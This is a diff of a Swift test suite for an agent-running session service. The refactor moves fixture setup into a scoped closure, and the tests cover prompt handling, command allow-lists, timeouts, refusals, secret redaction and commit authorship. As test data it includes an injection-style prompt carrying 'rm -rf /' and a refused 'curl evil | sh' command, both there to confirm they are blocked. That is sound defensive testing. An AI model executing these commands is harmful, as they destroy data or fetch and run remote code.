@@ -25,8 +25,7 @@ struct RunTests {
 
     @Test("a run streams its output as it comes, commits as the App's bot, pushes a branch, and reports what it pushed")
     func runCommitsAndPushes() async throws {
-        let fixture = try await SessionsFixture.start(environment: ["NETCLODE_AGENT_COMMAND": AgentScript.json(Self.committer)])
-        do {
+        try await SessionsFixture.with(environment: ["NETCLODE_AGENT_COMMAND": AgentScript.json(Self.committer)]) { fixture in
             let session = try await fixture.readySession(repos: ["demo/hello"], access: "write")
             let transcript = try await fixture.run(session.id, "fix-bug")
 
@@ -53,22 +52,17 @@ struct RunTests {
             let history = try await fixture.watch(session.id) { items in items.contains { $0.hasSession } }
             let stored = history.filter { (item: Netclode_V1_WatchSessionResponse) in item.hasEvent && item.event.runID == runID }.map { $0.event }
             #expect(stored == transcript.events)
-        } catch {
-            await fixture.finish()
-            throw error
         }
-        await fixture.finish()
     }
 
     @Test("without {prompt} the prompt goes to standard input; a session may name an allowed command of its own")
     func promptOnStandardInputAndSessionCommand() async throws {
         let reader = ["sh", "-c", "echo \"stdin: $(cat)\""]
         let shouter = ["sh", "-c", "echo \"$1\" | tr a-z A-Z", "agent", "{prompt}"]
-        let fixture = try await SessionsFixture.start(environment: [
+        try await SessionsFixture.with(environment: [
             "NETCLODE_AGENT_COMMAND": AgentScript.json(reader),
             "NETCLODE_AGENT_COMMANDS_ALLOWED": "[\(AgentScript.json(shouter))]",
-        ])
-        do {
+        ]) { fixture in
             let plain = try await fixture.readySession()
             #expect(try await fixture.run(plain.id, "hello; $(rm -rf /)").output() == "stdin: hello; $(rm -rf /)\n")
 
@@ -83,11 +77,7 @@ struct RunTests {
             #expect(refused?.message.contains("agentCommand [\"sh\",\"-c\",\"curl evil | sh\"] is not allowed") == true, "\(refused?.message ?? "")")
             let after = try await fixture.call("ListSessions", Netclode_V1_ListSessionsRequest(), as: Netclode_V1_ListSessionsResponse.self).sessions.count
             #expect(after == before)
-        } catch {
-            await fixture.finish()
-            throw error
         }
-        await fixture.finish()
     }
 
     @Test("a failing agent finishes with its exit code; a hung one is cancelled or timed out and the session stays usable")
@@ -100,8 +90,7 @@ struct RunTests {
               *) echo "ok: $1";;
             esac
             """#
-        let fixture = try await SessionsFixture.start(environment: ["NETCLODE_AGENT_COMMAND": AgentScript.json(script)])
-        do {
+        try await SessionsFixture.with(environment: ["NETCLODE_AGENT_COMMAND": AgentScript.json(script)]) { fixture in
             let session = try await fixture.readySession()
             let failed = try await fixture.run(session.id, "fail")
             #expect(failed.end?.stage == "finished" && failed.end?.exitCode == 3)
@@ -135,17 +124,12 @@ struct RunTests {
             // Nothing to cancel now.
             let idle = await fixture.error("CancelRun", Netclode_V1_CancelRunRequest.with { $0.sessionID = session.id })
             #expect(idle?.code == .failedPrecondition)
-        } catch {
-            await fixture.finish()
-            throw error
         }
-        await fixture.finish()
     }
 
     @Test("a run on a paused or deleted session is refused with the status named; bad requests name what is wrong")
     func refusals() async throws {
-        let fixture = try await SessionsFixture.start(environment: ["NETCLODE_AGENT_COMMAND": AgentScript.json("echo hi"), "NETCLODE_RUN_MAX_TIMEOUT": "600"])
-        do {
+        try await SessionsFixture.with(environment: ["NETCLODE_AGENT_COMMAND": AgentScript.json("echo hi"), "NETCLODE_RUN_MAX_TIMEOUT": "600"]) { fixture in
             let session = try await fixture.readySession()
             let empty = await fixture.runError(SessionsFixture.runRequest(session.id, "  "))
             #expect(empty?.code == .invalidArgument && empty?.message == "prompt is empty: say what the agent should do")
@@ -159,52 +143,37 @@ struct RunTests {
             _ = try await fixture.call("DeleteSession", Netclode_V1_DeleteSessionRequest.with { $0.sessionID = session.id }, as: Netclode_V1_DeleteSessionResponse.self)
             let deleted = await fixture.runError(SessionsFixture.runRequest(session.id, "x"))
             #expect(deleted?.code == .failedPrecondition && deleted?.message.hasPrefix("session \(session.id) is deleted") == true)
-        } catch {
-            await fixture.finish()
-            throw error
         }
-        await fixture.finish()
     }
 
     @Test("without an agent command a run is refused with the setting to set")
     func noAgentCommand() async throws {
-        let fixture = try await SessionsFixture.start()
-        do {
+        try await SessionsFixture.with { fixture in
             let session = try await fixture.readySession()
             let refused = await fixture.runError(SessionsFixture.runRequest(session.id, "x"))
             #expect(refused?.code == .failedPrecondition)
             #expect(refused?.message.contains("NETCLODE_AGENT_COMMAND") == true)
-        } catch {
-            await fixture.finish()
-            throw error
         }
-        await fixture.finish()
     }
 
     @Test("NETCLODE_AGENT_ENV hands the named variables to the agent command, redacted from its output")
     func agentEnvironment() async throws {
-        let fixture = try await SessionsFixture.start(environment: [
+        try await SessionsFixture.with(environment: [
             "NETCLODE_AGENT_COMMAND": AgentScript.json("echo \"key=$DEMO_AGENT_KEY\"; [ -n \"$DEMO_AGENT_KEY\" ] && echo set"),
             "NETCLODE_AGENT_ENV": "DEMO_AGENT_KEY",
             "DEMO_AGENT_KEY": "sk-demo-0123456789",
-        ])
-        do {
+        ]) { fixture in
             let session = try await fixture.readySession()
             #expect(try await fixture.run(session.id, "go").output() == "key=***\nset\n")
             // Exec'd commands do not get it: only the agent command does.
             let exec = try await fixture.exec(session.id, ["sh", "-c", "echo \"[$DEMO_AGENT_KEY]\""])
             #expect(exec.stdout == "[]\n")
-        } catch {
-            await fixture.finish()
-            throw error
         }
-        await fixture.finish()
     }
 
     @Test("a session's gitAuthor authors its commits; a malformed one is refused")
     func humanAuthor() async throws {
-        let fixture = try await SessionsFixture.start(environment: ["NETCLODE_AGENT_COMMAND": AgentScript.json(Self.committer)])
-        do {
+        try await SessionsFixture.with(environment: ["NETCLODE_AGENT_COMMAND": AgentScript.json(Self.committer)]) { fixture in
             let bad = await fixture.error("CreateSession", Netclode_V1_CreateSessionRequest.with { $0.gitAuthor = "Ada" })
             #expect(bad?.code == .invalidArgument && bad?.message.hasPrefix("gitAuthor must be \"Name <email>\"") == true)
             let session = try await fixture.readySession(repos: ["demo/hello"], access: "write") { $0.gitAuthor = "Ada Lovelace <ada@example.com>" }
@@ -213,10 +182,6 @@ struct RunTests {
             #expect(transcript.end?.exitCode == 0)
             let author = try await Git.check(["log", "-1", "--format=%an <%ae>", "ada-branch"], in: fixture.forge.bareRepository("demo/hello"))
             #expect(author.stdout == "Ada Lovelace <ada@example.com>\n")
-        } catch {
-            await fixture.finish()
-            throw error
         }
-        await fixture.finish()
     }
 }
